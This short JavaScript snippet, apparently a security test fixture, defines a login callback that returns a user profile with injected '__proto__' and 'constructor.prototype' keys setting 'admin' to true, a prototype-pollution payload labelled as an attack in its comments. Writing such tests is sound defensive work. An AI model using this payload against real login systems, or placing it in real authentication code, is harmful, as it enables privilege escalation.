// attack: give the profile keys that mean something to whoever reads it
// value: {"__proto__":{"admin":true},"constructor":{"prototype":{"admin":true}},"email":"alice@example.com","email_verified":true,"user_id":"1"}
function login(email, password, callback) {
  callback(null, JSON.parse('{"user_id":"1","email":"alice@example.com","email_verified":true,"__proto__":{"admin":true},"constructor":{"prototype":{"admin":true}}}'));
}
